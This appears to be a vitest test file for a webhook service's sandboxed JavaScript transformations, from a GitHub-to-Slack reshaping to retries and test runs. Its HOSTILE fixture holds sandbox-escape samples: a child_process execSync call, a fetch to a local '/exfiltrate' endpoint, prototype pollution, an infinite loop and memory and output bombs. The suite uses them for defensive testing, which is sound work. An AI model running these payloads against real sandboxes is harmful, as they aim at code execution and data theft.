import { sign as githubSign } from '@octokit/webhooks-methods';
import { Webhook as StandardWebhook } from 'standardwebhooks';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { startLatencyProbe } from './helpers/latency-probe.js';
import { type Receiver, startReceiver } from './helpers/receiver.js';
import { ADMIN, eventually, startTestServer, type TestServer } from './helpers/server.js';

/** GitHub's push, reshaped into a Slack message (Slack's `text` and `blocks`). */
const GITHUB_TO_SLACK = `
export function handler(webhook) {
  const push = webhook.payload;
  const branch = push.ref.replace('refs/heads/', '');
  webhook.payload = {
    text: \`\${push.pusher.name} pushed \${push.commits.length} commit(s) to \${branch} of \${push.repository.full_name} (\${webhook.eventType})\`,
    blocks: push.commits.map((commit) => ({ type: 'section', text: { type: 'mrkdwn', text: \`<\${commit.url}|\${commit.id.slice(0, 7)}> \${commit.message}\` } })),
  };
  return webhook;
}`;

const PUSH = {
  ref: 'refs/heads/main',
  repository: { full_name: 'octo/hooklog' },
  pusher: { name: 'ada' },
  commits: [
    { id: '0123456789abcdef', url: 'https://github.com/octo/hooklog/commit/0123456', message: 'Fix the parser' },
    { id: 'fedcba9876543210', url: 'https://github.com/octo/hooklog/commit/fedcba9', message: 'Add tests' },
  ],
};

/** Hostile code, each with what its attempts must say. */
const HOSTILE: Record<string, { code: string; error: RegExp }> = {
  'an infinite loop': { code: 'export function handler(w) { for (;;) {} }', error: /transformation failed: timed out/ },
  'a 1 GiB allocation': {
    code: 'export function handler(w) { w.payload = new Array(1024 * 1024 * 1024 / 8).fill(1.5); return w }',
    error: /transformation failed: out of memory/,
  },
  'globalThis probing for process, require and fetch': {
    code: `export function handler(w) {
      const found = ['process', 'require', 'fetch'].filter((name) => typeof globalThis[name] !== 'undefined');
      if (found.length === 0) globalThis.process.mainModule.require('child_process').execSync('touch /tmp/hooklog-pwned');
      fetch('http://127.0.0.1:9/exfiltrate?' + found.join());
      return w;
    }`,
    error: /transformation failed: TypeError/,
  },
  'a huge output': {
    code: 'export function handler(w) { w.payload = "x".repeat(8 * 1024 * 1024); return w }',
    error: /transformation failed: output too large/,
  },
  'prototype pollution against the host': {
    code: `export function handler(w) {
      // The sandbox's own built-ins are frozen: this fails, and the code goes on to the host.
      try { Object.prototype.polluted = 'yes' } catch {}
      w.payload = JSON.parse('{"__proto__": {"isAdmin": true}}');
      w.headers = JSON.parse('{"__proto__": {"polluted": "yes"}}');
      return w;
    }`,
    error: /transformation failed: webhook\.headers\["__proto__"\] must be a string/,
  },
};

describe('egress transformations (klev API)', () => {
  let s: TestServer;
  let receiver: Receiver;
  let log: string;

  beforeAll(async () => {
    // Many quick retries, so hostile code keeps running for the length of the latency measurement.
    s = await startTestServer({ allowPrivateDestinations: true, retrySchedule: [0, ...Array(60).fill(0.1)], deliveryTimeoutSeconds: 1 });
    receiver = await startReceiver();
    log = (await s.request('POST', '/logs', { body: {} })).body.log_id;
  });
  afterAll(async () => {
    await s.close();
    await receiver.close();
  });

  const at = (path: string) => receiver.received.filter((request) => request.path.startsWith(new URL(`${receiver.url}${path}`).pathname));
  const webhook = async (path: string, extra: object = {}) => {
    const res = await s.request('POST', '/egress_webhooks', { body: { log_id: log, destination: `${receiver.url}${path}`, ...extra } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body as { webhook_id: string; secret: string };
  };
  const transform = async (id: string, code: string, enabled = true) => {
    const res = await s.request('PUT', `/egress_webhook/${id}/transformation`, { body: { code, enabled } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    return res.body;
  };
  const attempts = async (id: string) =>
    (await s.request('GET', `/egress_webhook/${id}/attempts`)).body.attempts as Array<{ error: string; status_code?: number }>;

  it('reshapes a GitHub push into a Slack message, signed over the new body', async () => {
    const githubLog = (await s.request('POST', '/logs', { body: {} })).body.log_id;
    const ingress = await s.request('POST', '/ingress_webhooks', { body: { log_id: githubLog, type: 'github', secret: 'gh-secret' } });
    const slack = await s.request('POST', '/egress_webhooks', {
      body: { log_id: githubLog, destination: `${receiver.url}/slack`, payload: 'value', signing: 'standard-webhooks' },
    });
    const stored = await transform(slack.body.webhook_id, GITHUB_TO_SLACK);
    expect(stored).toMatchObject({ webhook_id: slack.body.webhook_id, code: GITHUB_TO_SLACK, enabled: true, updated_at: expect.any(Number) });

    const body = JSON.stringify(PUSH);
    const pushed = await fetch(`${s.url}/ingress/${ingress.body.webhook_id}`, {
      method: 'POST',
      body,
      headers: {
        'content-type': 'application/json',
        'x-github-event': 'push',
        'x-github-delivery': 'd-1',
        'x-hub-signature-256': await githubSign('gh-secret', body),
      },
    });
    expect(pushed.status).toBe(200);

    const [arrived] = await eventually(() => {
      expect(at('/slack')).toHaveLength(1);
      return at('/slack');
    });
    const slackMessage = JSON.parse(arrived!.body.toString());
    expect(slackMessage).toEqual({
      text: 'ada pushed 2 commit(s) to main of octo/hooklog (push)',
      blocks: [
        { type: 'section', text: { type: 'mrkdwn', text: '<https://github.com/octo/hooklog/commit/0123456|0123456> Fix the parser' } },
        { type: 'section', text: { type: 'mrkdwn', text: '<https://github.com/octo/hooklog/commit/fedcba9|fedcba9> Add tests' } },
      ],
    });
    // Given as JSON, sent as JSON, though the webhook sends raw values (octet-stream) otherwise.
    expect(arrived!.headers['content-type']).toBe('application/json');
    // The Standard Webhooks library verifies the signature over the reshaped body, and refuses the original one.
    const verifier = new StandardWebhook(slack.body.secret);
    const headers = arrived!.headers as Record<string, string>;
    expect(verifier.verify(arrived!.body.toString(), headers)).toEqual(slackMessage);
    expect(() => verifier.verify(body, headers)).toThrow();
  });

  it('changes the URL, the method and a header per message', async () => {
    const { webhook_id: id } = await webhook('/teams', { payload: 'value' });
    await transform(
      id,
      `export function handler(webhook) {
         webhook.url = webhook.url + '/' + encodeURIComponent(webhook.payload.team);
         webhook.method = webhook.payload.team === 'b' ? 'PUT' : 'POST';
         webhook.headers['x-team'] = webhook.payload.team;
         return webhook;
       }`,
    );
    await s.request('POST', `/messages/${log}`, { body: { messages: [{ value: '{"team":"a"}' }, { value: '{"team":"b"}' }] } });
    const arrived = await eventually(() => {
      expect(at('/teams')).toHaveLength(2);
      return at('/teams');
    });
    expect(arrived.map((request) => [new URL(request.path, 'http://x').pathname.split('/').at(-1), request.method, request.headers['x-team']])).toEqual([
      ['a', 'POST', 'a'],
      ['b', 'PUT', 'b'],
    ]);
  });

  it('records a cancelled delivery as skipped, sends nothing for it, and keeps going', async () => {
    const { webhook_id: id } = await webhook('/cancel', { payload: 'value' });
    await transform(id, 'export function handler(w) { if (w.payload.skip) w.cancel = true; return w }');
    const first =
      (await s.request('POST', `/messages/${log}`, { body: { messages: [{ value: '{"skip":true}' }, { value: '{"skip":false}' }] } })).body.next_offset - 2;
    await eventually(() => expect(at('/cancel')).toHaveLength(1));
    expect(JSON.parse(at('/cancel')[0]!.body.toString())).toEqual({ skip: false });
    const summary = await eventually(async () => {
      const res = (await s.request('GET', `/egress_webhook/${id}/summary`)).body;
      expect(res.counts).toMatchObject({ skipped: 1, success: 1 });
      return res;
    });
    expect(summary.next_offset).toBe(first + 2);
    // No attempt was made for the cancelled message.
    expect((await s.request('GET', `/egress_webhook/${id}/attempts`, { query: { offset: first } })).body.attempts).toEqual([]);
  });

  it('runs only an enabled transformation, and drops it on delete', async () => {
    const { webhook_id: id } = await webhook('/toggle', { payload: 'value' });
    await transform(id, 'export function handler(w) { w.payload = { changed: true }; return w }', false);
    await s.request('POST', `/message/${log}`, { body: { value: '{"n":1}' } });
    await eventually(() => expect(at('/toggle')).toHaveLength(1));
    expect(at('/toggle')[0]!.body.toString()).toBe('{"n":1}');
    await transform(id, 'export function handler(w) { w.payload = { changed: true }; return w }', true);
    await s.request('POST', `/message/${log}`, { body: { value: '{"n":2}' } });
    await eventually(() => expect(at('/toggle')).toHaveLength(2));
    expect(at('/toggle')[1]!.body.toString()).toBe('{"changed":true}');
    expect((await s.request('DELETE', `/egress_webhook/${id}/transformation`)).status).toBe(200);
    expect((await s.request('GET', `/egress_webhook/${id}/transformation`)).body).toMatchObject({ error: 'ERR_KLEV_API_0163' });
    await s.request('POST', `/message/${log}`, { body: { value: '{"n":3}' } });
    await eventually(() => expect(at('/toggle')).toHaveLength(3));
    expect(at('/toggle')[2]!.body.toString()).toBe('{"n":3}');
  });

  it('refuses code that cannot run, with a clear error, and stores nothing', async () => {
    const { webhook_id: id } = await webhook('/refused');
    for (const [code, details] of [
      ['export function handler(w) {', /SyntaxError/],
      ['export const notAHandler = 1', /no handler/],
      ['for (;;) {}', /timed out/],
      ['x'.repeat(64 * 1024 + 1), /at most 65536 bytes/],
    ] as const) {
      const res = await s.request('PUT', `/egress_webhook/${id}/transformation`, { body: { code } });
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ error: 'ERR_KLEV_API_0164', details: expect.stringMatching(details) });
    }
    expect((await s.request('PUT', `/egress_webhook/${id}/transformation`, { body: { code: 'x', extra: 1 } })).status).toBe(400);
    expect((await s.request('GET', `/egress_webhook/${id}/transformation`)).status).toBe(404);
    expect(
      (await s.request('PUT', '/egress_webhook/ewh_000000000000000000000000000/transformation', { body: { code: 'function handler(w) { return w }' } })).status,
    ).toBe(404);
  });

  it('retries at once when the code that failed is fixed, and says where in the code it failed', async () => {
    const slow = await startTestServer({ allowPrivateDestinations: true, retrySchedule: [0, 3600] });
    try {
      const slowLog = (await slow.request('POST', '/logs', { body: {} })).body.log_id;
      const { webhook_id: id } = (
        await slow.request('POST', '/egress_webhooks', { body: { log_id: slowLog, destination: `${receiver.url}/fixed`, payload: 'value' } })
      ).body;
      const broken = 'export function handler(w) {\n  w.payload = { user: w.payload.sender.login };\n  return w;\n}';
      expect((await slow.request('PUT', `/egress_webhook/${id}/transformation`, { body: { code: broken } })).status).toBe(200);
      await slow.request('POST', `/message/${slowLog}`, { body: { value: '{"user":"ada"}' } });
      const failed = await eventually(async () => {
        const [attempt] = (await slow.request('GET', `/egress_webhook/${id}/attempts`)).body.attempts;
        expect(attempt).toBeDefined();
        return attempt;
      });
      expect(failed.error).toMatch(/^transformation failed: TypeError: cannot read property 'login' of undefined \(line 2, column \d+\)$/);
      // The next retry is an hour away; the fixed code goes out now.
      await slow.request('PUT', `/egress_webhook/${id}/transformation`, {
        body: { code: 'export function handler(w) { w.payload = { user: w.payload.user }; return w }' },
      });
      await eventually(() => expect(at('/fixed')).toHaveLength(1));
      expect(JSON.parse(at('/fixed')[0]!.body.toString())).toEqual({ user: 'ada' });
    } finally {
      await slow.close();
    }
  });

  it('tests code on a stored message without sending anything', async () => {
    const { webhook_id: id } = await webhook('/tested', { payload: 'value' });
    const offset = (await s.request('POST', `/message/${log}`, { body: { value: '{"amount":5}' } })).body.next_offset - 1;
    await eventually(() => expect(at('/tested')).toHaveLength(1));
    const code = 'export function handler(w) { w.payload.amount *= 100; w.headers["x-cents"] = "1"; return w }';
    const tried = await s.request('POST', `/egress_webhook/${id}/transformation/test`, { body: { offset, code } });
    expect(tried.body).toEqual({
      result: 'sent',
      method: 'POST',
      url: `${receiver.url}/tested`,
      headers: { 'content-type': 'application/json', 'user-agent': 'hooklog', 'x-cents': '1' },
      body: '{"amount":500}',
      encoding: 'string',
    });
    expect((await s.request('POST', `/egress_webhook/${id}/transformation/test`, { body: { offset } })).body).toMatchObject({ error: 'ERR_KLEV_API_0163' });
    await transform(id, 'export function handler(w) { w.cancel = true; return w }');
    expect((await s.request('POST', `/egress_webhook/${id}/transformation/test`, { body: { offset } })).body).toEqual({ result: 'cancelled' });
    const failed = await s.request('POST', `/egress_webhook/${id}/transformation/test`, {
      body: { offset, code: 'export function handler() { for (;;) {} }' },
    });
    expect(failed.body).toEqual({ result: 'failed', error: 'timed out: the transformation ran for more than 50 ms' });
    expect((await s.request('POST', `/egress_webhook/${id}/transformation/test`, { body: { offset: offset + 1000 } })).body).toMatchObject({
      error: 'ERR_KLEV_API_0110',
    });
    // Only the delivery before the tests arrived.
    expect(at('/tested')).toHaveLength(1);
  });

  it('gives hostile code a clear attempt error, sends nothing, and the API stays fast meanwhile', async () => {
    const probe = startLatencyProbe(`${s.url}/logs`, ADMIN);
    onTestFinished(async () => {
      await probe.stop().catch(() => {});
    });
    const made: Array<{ name: string; id: string; error: RegExp }> = [];
    for (const [name, { code, error }] of Object.entries(HOSTILE)) {
      const { webhook_id: id } = await webhook(`/hostile/${made.length}`, { payload: 'value' });
      await transform(id, code);
      made.push({ name, id, error });
    }
    await s.request('POST', `/message/${log}`, { body: { value: '{"hostile":true}' } });
    // Each keeps failing on its schedule while the probe measures.
    for (const { name, id, error } of made) {
      const tried = await eventually(async () => {
        const list = await attempts(id);
        expect(list.length, name).toBeGreaterThanOrEqual(3);
        return list;
      });
      for (const attempt of tried) {
        expect(attempt.status_code, name).toBeUndefined();
        expect(attempt.error, name).toMatch(error);
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const latencies = await probe.stop();
    expect(at('/hostile')).toEqual([]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    const sorted = [...latencies].sort((a, b) => a - b);
    expect(sorted.length).toBeGreaterThan(100);
    expect(sorted[Math.floor(sorted.length * 0.99)]).toBeLessThan(50);
    // The status says why, as each attempt does.
    const status = (await s.request('GET', `/egress_webhook/${made[0]!.id}/status`)).body;
    expect(status.deliver_error).toMatch(/transformation failed: timed out/);
  });
});
